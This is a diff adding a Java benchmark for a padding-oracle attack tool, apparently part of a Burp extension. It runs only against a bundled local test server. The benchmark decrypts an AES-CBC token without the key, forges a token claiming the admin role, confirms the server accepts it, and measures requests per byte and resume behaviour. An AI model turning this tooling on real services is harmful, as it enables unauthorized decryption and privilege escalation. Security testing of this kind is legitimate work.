@@ -0,0 +1,165 @@
+package burp;
+
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.Base64;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.atomic.AtomicReference;
+
+/**
+ * PaddingOracle throughput against the bundled PaddingOracleServer
+ *
+ * For each in-flight limit, decrypts a fresh token without the key and then
+ * forges a token for a chosen plaintext, checks both against the server, and
+ * prints requests per recovered byte and bytes per minute. A final run stops
+ * the decryption halfway and resumes it from the state file, to show that
+ * resumed work is not repeated.
+ *
+ * Usage:
+ *   java -cp destroy-aes.jar:montoya-api.jar burp.PaddingOracleBenchmark \
+ *        [--latency 2] [--inflight 1,8,32] [--blocks 4]
+ */
+public class PaddingOracleBenchmark {
+
+    private static final String FORGED = "{\"user\":\"admin\",\"role\":\"admin\"}";
+
+    public static void main(String[] args) throws Exception {
+        int latency = 2;
+        String inflight = "1,8,32";
+        int blocks = 4;
+
+        for (int i = 0; i < args.length; i++) {
+            switch (args[i]) {
+                case "--latency": latency = Integer.parseInt(args[++i]); break;
+                case "--inflight": inflight = args[++i]; break;
+                case "--blocks": blocks = Integer.parseInt(args[++i]); break;
+                default:
+                    System.err.println("Unknown argument: " + args[i]);
+                    System.exit(1);
+            }
+        }
+
+        PaddingOracleServer server = new PaddingOracleServer(latency);
+        server.start(0);
+        LocalOracle oracle = new LocalOracle(server.getPort(), new PaddingOracle.Detector("500", "", ""));
+
+        System.out.println("Padding oracle benchmark: AES-128-CBC token of "
+                + PaddingOracleServer.SECRET.length() + " bytes, " + latency + " ms server latency, "
+                + blocks + " parallel blocks");
+        System.out.println();
+        System.out.printf("%-10s %-8s %10s %10s %12s %10s %8s%n",
+                "in flight", "op", "bytes", "requests", "req/byte", "bytes/min", "check");
+
+        try {
+            for (String level : inflight.split(",")) {
+                int maxInFlight = Integer.parseInt(level.trim());
+                byte[] token = Base64.getDecoder().decode(server.token());
+
+                try (PaddingOracle attack = new PaddingOracle(oracle, maxInFlight, blocks, null, null, null)) {
+                    String plaintext = new String(attack.decrypt(token, null), StandardCharsets.UTF_8);
+                    row(maxInFlight, "decrypt", attack.stats(), PaddingOracleServer.SECRET.equals(plaintext));
+                }
+
+                try (PaddingOracle attack = new PaddingOracle(oracle, maxInFlight, blocks, null, null, null)) {
+                    byte[] forged = attack.encrypt(FORGED.getBytes(StandardCharsets.UTF_8));
+                    String answer = oracle.post(Base64.getEncoder().encodeToString(forged)).body();
+                    row(maxInFlight, "forge", attack.stats(), answer.contains("\"admin\""));
+                }
+            }
+            resume(server, oracle, blocks);
+        } finally {
+            oracle.close();
+            server.stop();
+        }
+    }
+
+    /**
+     * Stops a decryption once half the bytes are known, then resumes it from the state file
+     */
+    private static void resume(PaddingOracleServer server, LocalOracle oracle, int blocks) throws Exception {
+        Path statePath = Files.createTempFile("padding-oracle", ".json");
+        byte[] token = Base64.getDecoder().decode(server.token());
+        int half = (token.length - PaddingOracle.BLOCK) / 2;
+        try {
+            AtomicReference<PaddingOracle> running = new AtomicReference<>();
+            PaddingOracle.Oracle stopping = ciphertext -> {
+                if (running.get().stats().bytesRecovered() >= half) {
+                    running.get().stop();
+                }
+                return oracle.isValidPadding(ciphertext);
+            };
+            try (PaddingOracle attack = new PaddingOracle(stopping, 8, blocks, null, statePath, null)) {
+                running.set(attack);
+                attack.decrypt(token, null);
+            } catch (Exception expected) {
+                // stopped on purpose
+            }
+
+            PaddingOracle.State state = PaddingOracle.State.load(statePath);
+            int known = state.knownBytes();
+            try (PaddingOracle attack = new PaddingOracle(oracle, 8, blocks, state, statePath, null)) {
+                String plaintext = new String(attack.decrypt(token, null), StandardCharsets.UTF_8);
+                System.out.println();
+                System.out.println("Resume: " + known + " of " + (token.length - PaddingOracle.BLOCK)
+                        + " bytes known after restart; resumed run " + attack.stats()
+                        + (PaddingOracleServer.SECRET.equals(plaintext) ? ", plaintext OK" : ", plaintext WRONG"));
+            }
+        } finally {
+            Files.deleteIfExists(statePath);
+        }
+    }
+
+    private static void row(int inFlight, String op, PaddingOracle.Stats stats, boolean ok) {
+        System.out.printf("%-10d %-8s %10d %10d %12.1f %10.0f %8s%n", inFlight, op, stats.bytesRecovered(),
+                stats.requests(), stats.requestsPerByte(), stats.bytesPerMinute(), ok ? "OK" : "FAIL");
+    }
+
+    /**
+     * Oracle over the JDK HTTP client, posting {"data": Base64} to /api
+     */
+    static final class LocalOracle implements PaddingOracle.Oracle, AutoCloseable {
+        private final ExecutorService executor = Executors.newCachedThreadPool(r -> {
+            Thread thread = new Thread(r, "oracle-client");
+            thread.setDaemon(true);
+            return thread;
+        });
+        private final HttpClient client = HttpClient.newBuilder()
+                .version(HttpClient.Version.HTTP_1_1)
+                .connectTimeout(Duration.ofSeconds(5))
+                .executor(executor)
+                .build();
+        private final URI uri;
+        private final PaddingOracle.Detector detector;
+
+        LocalOracle(int port, PaddingOracle.Detector detector) {
+            this.uri = URI.create("http://127.0.0.1:" + port + "/api");
+            this.detector = detector;
+        }
+
+        @Override
+        public boolean isValidPadding(byte[] ciphertext) throws Exception {
+            HttpResponse<String> response = post(Base64.getEncoder().encodeToString(ciphertext));
+            return !detector.isPaddingError(response.statusCode(), response.body().length(), response.body());
+        }
+
+        HttpResponse<String> post(String data) throws Exception {
+            HttpRequest request = HttpRequest.newBuilder(uri)
+                    .header("Content-Type", "application/json")
+                    .POST(HttpRequest.BodyPublishers.ofString("{\"data\":\"" + data + "\"}"))
+                    .build();
+            return client.send(request, HttpResponse.BodyHandlers.ofString());
+        }
+
+        @Override
+        public void close() {
+            executor.shutdownNow();
+        }
+    }
+}